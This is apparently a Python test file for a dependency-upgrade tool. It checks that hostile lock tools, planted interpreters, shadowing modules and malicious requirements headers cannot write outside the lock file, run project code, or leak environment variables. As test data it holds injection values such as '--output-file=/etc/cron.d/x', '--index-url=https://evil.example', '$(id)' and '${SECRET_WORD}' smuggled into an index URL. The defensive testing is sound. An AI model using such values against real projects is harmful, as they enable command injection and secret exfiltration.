"""Tools that misbehave, and projects that want them to."""

from __future__ import annotations

import os
import stat
import sys
import time
from pathlib import Path

import pytest

from buckler.core.errors import RepairError
from buckler.scan.fix.upgrades.header import Command, command_of
from buckler.scan.fix.upgrades.running import running
from tests.fix.upgrades.conftest import Shop
from tests.fix.upgrades.test_poetry import HEAD, SOURCE

LOCK = """version = 1
revision = 3
requires-python = ">=3.11"

[[package]]
name = "labels"
version = "2.1"
source = { registry = "https://index.example/simple" }
wheels = [{ url = "https://index.example/labels-2.1-py3-none-any.whl", hash = "sha256:00" }]

[[package]]
name = "shop"
version = "1"
source = { virtual = "." }
dependencies = [{ name = "labels" }]
"""
MANIFEST = '[project]\nname = "shop"\nversion = "1"\nrequires-python = ">=3.11"\ndependencies = ["labels"]\n'
WRITES = "lock = open('uv.lock').read(); open('uv.lock', 'w').write(lock.replace('2.1', '2.9'))\n"


def with_tool(shop: Shop, code: str, name: str = "uv") -> Shop:
    """A project locked by a tool that is a program of ours: no real one does these things."""
    folder = shop.scratch / "bin"
    folder.mkdir(exist_ok=True)
    program = folder / name
    program.write_text(f"#!{sys.executable} -I\nimport os, sys, time\n{code}")
    program.chmod(program.stat().st_mode | stat.S_IXUSR)
    shop.more["PATH"] = f"{folder}{os.pathsep}{os.environ['PATH']}"
    if not (shop.folder / "uv.lock").exists():
        shop.write({"uv.lock": LOCK, "pyproject.toml": MANIFEST})
    shop.known("labels", "2.9")
    return shop


def test_of_what_a_tool_writes_the_lock_alone_is_taken_over(shop: Shop) -> None:
    code = WRITES + "open('main.py', 'a').write('import evil\\n'); open('new.py', 'w').close()\n"
    fixed = with_tool(shop, code).fix("--resolve")
    assert fixed.repair["applied"], fixed.repair["why"]
    assert [file["path"] for file in fixed.told["files"]] == ["uv.lock"]
    assert "evil" not in shop.text("main.py")
    assert not (shop.folder / "new.py").exists()
    assert any("main.py, new.py" in text for text in fixed.repair["unshown"])


@pytest.mark.parametrize(
    ("code", "why"),
    [
        ("sys.exit('no such version')\n", "no such version"),
        ("", "uv.lock still has labels 2.1"),
        ("os.unlink('uv.lock')\n", "there is no uv.lock"),
        ("os.unlink('uv.lock'); os.symlink('/etc/hostname', 'uv.lock')\n", "is a link"),
        ("os.unlink('uv.lock'); os.mkfifo('uv.lock')\n", "no regular file"),
        ("os.write(2, b'\\x1b]0;title\\x07' + b'x' * 5_000_000); sys.exit(3)\n", "uv: "),
    ],
)
def test_a_tool_that_fails_changes_nothing(code: str, why: str, shop: Shop) -> None:
    fixed = with_tool(shop, code).fix("--resolve")
    assert fixed.told["repairs"] == []
    assert why in fixed.left[0]
    assert len(fixed.left[0]) < 600
    assert shop.text("uv.lock") == LOCK


def test_a_lock_that_is_a_link_is_left(shop: Shop) -> None:
    shop.write({"locks/prod.lock": LOCK, "pyproject.toml": MANIFEST})
    (shop.folder / "uv.lock").symlink_to("locks/prod.lock")
    fixed = with_tool(shop, WRITES).fix("--resolve")
    assert fixed.told["repairs"] == []
    assert "is a link" in fixed.left[0]
    assert (shop.folder / "uv.lock").is_symlink()
    assert shop.text("locks/prod.lock") == LOCK


def test_what_a_project_says_of_interpreters_does_not_count(shop: Shop) -> None:
    """uv starts the program that .python-version names, and the one in .venv."""
    ran = shop.scratch / "ran"
    program = f'#!/bin/sh\ntouch {ran}\nexec {sys.executable} "$@"\n'
    shop.write({"python": program, ".venv/bin/python": program, ".python-version": "./python\n"})
    for name in ("python", ".venv/bin/python"):
        (shop.folder / name).chmod(0o755)
    shop.write({"pyproject.toml": MANIFEST.replace('"labels"', '"labels==2.1"')})
    shop.write({"uv.lock": LOCK.replace("https://index.example/simple", shop.index.address)})
    shop.known("labels", "2.9")
    shop.fix("--resolve", "--python", sys.executable)
    assert not ran.exists()


def test_a_tool_that_hangs_is_ended_with_what_it_started(tmp_path: Path) -> None:
    marker = tmp_path / "late"
    child = f"import time; time.sleep(3); open({str(marker)!r}, 'w').close()"
    code = f"import subprocess, sys, time; subprocess.Popen([sys.executable, '-c', {child!r}]); time.sleep(60)"
    with running(seconds=1.0) as runner:
        ended = runner.run([sys.executable, "-c", code], tmp_path, walled=False)
        assert ended.code is None
        assert ended.why == "it took too long"
    time.sleep(3)
    assert not marker.exists()


def test_a_python_tool_that_reads_no_wall_is_refused(tmp_path: Path) -> None:
    with running() as runner, pytest.raises(RepairError, match="cannot be kept from building"):
        runner.run([sys.executable, "-I", "-c", "pass"], tmp_path, python=True)


@pytest.mark.parametrize(
    "code",
    [
        "import subprocess, sys; subprocess.run([sys.executable, '-c', 'pass'])",
        "import os; os.system('true')",
        "import os, sys; os.posix_spawn(sys.executable, [sys.executable], {})",
        "import os, sys; os.execv(sys.executable, [sys.executable])",
    ],
)
def test_nothing_starts_behind_the_wall(code: str, tmp_path: Path) -> None:
    with running() as runner:
        ended = runner.run([sys.executable, "-c", code], tmp_path, python=True)
        assert ended.code != 0
        assert "would have to build" in ended.why


@pytest.mark.parametrize(
    "written",
    [
        "pip-compile --output-file=/etc/cron.d/x requirements.in",
        "pip-compile ../other/requirements.in",
        "pip-compile --index-url=https://evil.example requirements.in",
        "pip-compile --pip-args=--no-binary=:all: requirements.in",
        "pip-compile --config evil.toml requirements.in",
        "uv pip compile --python ./python requirements.in",
        "uv pip compile requirements.in -o -x",
        "uv export --directory .. -o requirements.txt",
        "pip-compile 'requirements.in",
        "pip-compile --annotation-style=$(id) requirements.in",
    ],
)
def test_a_header_is_not_a_shell(written: str) -> None:
    with pytest.raises(RepairError):
        command_of("requirements.txt", f"#\n#    {written}\n#\nlabels==2.1\n")


def test_what_of_a_header_is_kept() -> None:
    written = (
        "pip-compile --upgrade --generate-hashes --extra=print -c limits.txt"
        " --upgrade-package labels -o=requirements.txt a.in b.in"
    )
    made = command_of("requirements.txt", f"#\n# This file\n#\n#    {written}\n#\nlabels==2.1\n")
    kept = ("--generate-hashes", "--extra", "print", "--constraint", "limits.txt")
    assert made == Command("pip-compile", kept, ("a.in", "b.in"), "requirements.txt")
    assert command_of("requirements.txt", "labels==2.1\n#    pip-compile x.in\n") is None


def marking(shop: Shop) -> str:
    """Code that leaves a mark, and takes the place of a module of the standard library."""
    return f"open({str(shop.scratch / 'mark')!r}, 'w').close()\n"


@pytest.mark.parametrize("module", ["contextlib", "importlib"])
def test_no_module_of_the_project_runs_in_pip(module: str, shop: Shop) -> None:
    shop.write({"requirements.txt": "labels==2.1\n", f"{module}.py": marking(shop)})
    shop.known("labels", "2.9")
    shop.fix("--resolve")
    assert not (shop.scratch / "mark").exists()


def test_no_interpreter_of_the_project_is_started(shop: Shop) -> None:
    text = HEAD + 'labels = "2.1"\n' + SOURCE.replace("{address}", shop.index.address)
    shop.write({"sub/pyproject.toml": text})
    shop.run("poetry", "lock", "--no-interaction", at="sub")
    shop.known("labels", "2.9")
    program = shop.folder / "sub/.venv/bin/python"
    program.parent.mkdir(parents=True)
    program.write_text(f'#!/bin/sh\ntouch {shop.scratch / "mark"}\nexec {sys.executable} "$@"\n')
    program.chmod(0o755)
    fixed = shop.fix("--resolve")
    assert not (shop.scratch / "mark").exists()
    assert fixed.repair["applied"], fixed.repair["why"]


@pytest.mark.parametrize(
    "files",
    [
        {"requirements.txt": "--extra-index-url http://127.0.0.1:9/${SECRET_WORD}/\nlabels==2.1\n"},
        {
            "requirements.txt": "-r more/base.txt\nlabels==2.1\n",
            "more/base.txt": "--find-links ${SECRET_WORD}\n",
        },
        {
            "requirements.txt": "#    pip-compile requirements.in\n#\nlabels==2.1\n",
            "requirements.in": "labels==2.1\n--find-links http://127.0.0.1:9/${SECRET_WORD}\n",
        },
    ],
    ids=["address", "included", "compiled"],
)
def test_no_variable_of_the_environment_goes_to_an_index(files: dict[str, str], shop: Shop) -> None:
    shop.write(files)
    shop.known("labels", "2.9")
    fixed = shop.fix("--resolve")
    assert fixed.told["repairs"] == []
    assert "${SECRET_WORD}" in fixed.left[0]
